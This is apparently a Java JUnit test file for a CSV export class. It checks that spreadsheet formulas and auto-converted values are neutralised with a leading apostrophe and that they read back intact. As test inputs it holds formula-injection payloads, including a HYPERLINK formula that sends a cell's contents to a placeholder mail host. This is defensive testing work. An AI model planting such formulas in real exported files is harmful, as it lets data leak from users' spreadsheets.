package cme.chassis.table;

import static org.assertj.core.api.Assertions.assertThat;

import jakarta.ws.rs.core.MediaType;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.List;
import java.util.Objects;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class CsvTableTest {

    private static byte[] written(Object... cells) throws IOException {
        var bytes = new ByteArrayOutputStream();
        List<String> header = List.of("name", "number", "credits", "on").subList(0, cells.length);
        try (CsvTable table = CsvTable.of(bytes, header)) {
            table.row(cells);
        }
        return bytes.toByteArray();
    }

    private static String line(String cell) throws IOException {
        String table = new String(written(cell), StandardCharsets.UTF_8);
        return table.substring("\uFEFFname\r\n".length(), table.length() - "\r\n".length());
    }

    @Test
    void aTableBeginsWithAByteOrderMark() throws IOException {
        byte[] table =
                written("Côté, \"M\"", "A1", new BigDecimal("1.50"), LocalDate.of(2026, 10, 4));
        assertThat(new String(table, StandardCharsets.UTF_8))
                .isEqualTo(
                        "\uFEFFname,number,credits,on\r\n\"Côté, \"\"M\"\"\",A1,1.50,2026-10-04\r\n");
    }

    @ParameterizedTest
    @CsvSource(
            quoteCharacter = '"',
            textBlock =
                    """
                    012345,        '012345
                    2026-10-04,    '2026-10-04
                    02-29,         '02-29
                    1.50,          '1.50
                    1234567890123, '1234567890123
                    1E5,           '1E5
                    1300000001,    1300000001
                    1.5,           1.5
                    0,             0
                    3 March 2026,  '3 March 2026
                    5 maja 2026,   '5 maja 2026
                    2026 Annual meeting, 2026 Annual meeting
                    Lopez,         Lopez
                    =1+1,          '=1+1
                    +4,            '+4
                    """)
    void aTextThatASpreadsheetWouldRunOrChangeIsGuarded(String text, String cell)
            throws IOException {
        assertThat(line(text)).isEqualTo(cell);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "=\"012345\"",
                "=HYPERLINK(\"http://mail.example/?\"&A1,\"open\")",
                "+4",
                "-1",
                "@x",
                "\uFF1D1+1",
                "\uFF0B1",
                "\uFF0D1",
                "\uFF20x",
                "'=1+1",
                "'012345",
                "''=1",
                "'",
                "'t Hooft",
                "Lopez",
                "012345",
                "2026-10-04",
                "5th meeting",
                "a;b,c\"d"
            })
    void whatIsGuardedComesBackAsItWas(String text) throws IOException {
        assertThat(line(text)).doesNotMatch("(?s)[=+@\\-\uFF1D\uFF0B\uFF0D\uFF20].*");
        Table table =
                Table.open(
                        new ByteArrayInputStream(written(text)),
                        MediaType.valueOf("text/csv"),
                        TableTest.COLUMNS);
        String read = Objects.requireNonNull(table.next()).content().path("name").asText();
        assertThat(read).isEqualTo(text);
    }

    @ParameterizedTest
    @ValueSource(strings = {" =1+1", "\t=1+1", "\r=1+1", "\u00a0=1+1", "\u200b=1+1"})
    void whatComesBeforeAFormulaDoesNotHideIt(String text) throws IOException {
        assertThat(line(text)).isEqualTo("'=1+1");
    }
}
